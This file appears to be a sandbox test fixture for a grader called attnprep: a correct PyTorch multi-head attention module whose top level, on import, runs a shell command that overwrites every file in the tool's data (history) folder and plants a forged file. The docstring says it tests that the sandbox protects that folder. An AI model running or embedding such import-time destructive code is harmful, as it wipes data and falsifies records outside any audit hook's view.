# attnprep: mha
# expect: passed
"""A correct MHA whose module, when imported, has a shell overwrite every file of attnprep's data
folder (the history) and drop a forged file there: a program it runs is out of the audit hook's
sight, so the child makes the data folder unwritable below Python (sandbox.hide, Landlock).
tests/test_sandbox.py checks that the history survives."""

import subprocess

from attnprep.paths import data_path

subprocess.run(["sh", "-c", 'for f in "$1"/* "$1"/*/*; do [ -f "$f" ] && echo garbage > "$f"; done; echo forged > "$1/forged.txt"',
                "sh", str(data_path())], capture_output=True, timeout=30)
import math

import torch
import torch.nn as nn
import torch.nn.functional as F


class MultiHeadAttention(nn.Module):
    def __init__(self, d_model: int, num_heads: int, dropout: float = 0.0):
        super().__init__()
        assert d_model % num_heads == 0, "d_model must be divisible by num_heads"
        self.num_heads = num_heads
        self.head_dim = d_model // num_heads
        self.q_proj = nn.Linear(d_model, d_model)
        self.k_proj = nn.Linear(d_model, d_model)
        self.v_proj = nn.Linear(d_model, d_model)
        self.o_proj = nn.Linear(d_model, d_model)
        self.dropout = nn.Dropout(dropout)  # on the attention probabilities; eval() turns it off

    def forward(
        self, x: torch.Tensor, attention_mask: torch.Tensor | None = None, is_causal: bool = False
    ) -> torch.Tensor:
        B, T, C = x.shape
        H, D = self.num_heads, self.head_dim

        q = self.q_proj(x).view(B, T, H, D).transpose(1, 2)  # (B, H, T, D)
        k = self.k_proj(x).view(B, T, H, D).transpose(1, 2)  # (B, H, T, D)
        v = self.v_proj(x).view(B, T, H, D).transpose(1, 2)  # (B, H, T, D)

        scores = q @ k.transpose(-2, -1) / math.sqrt(D)  # (B, H, T, D) @ (B, H, D, T) -> (B, H, T, T)
        if attention_mask is not None:  # (B, T), True = real token: padded keys get no attention
            scores = scores.masked_fill(~attention_mask[:, None, None, :], float("-inf"))  # (B, 1, 1, T)
        if is_causal:  # query i sees keys j <= i
            allowed = torch.tril(torch.ones(T, T, dtype=torch.bool, device=x.device))  # (T, T)
            scores = scores.masked_fill(~allowed, float("-inf"))
        attn = F.softmax(scores, dim=-1)  # (B, H, T, T), each row sums to 1 over the keys
        attn = self.dropout(attn)

        out = attn @ v  # (B, H, T, T) @ (B, H, T, D) -> (B, H, T, D)
        out = out.transpose(1, 2).contiguous().view(B, T, C)  # (B, T, H, D) -> (B, T, C)
        return self.o_proj(out)  # (B, T, C)
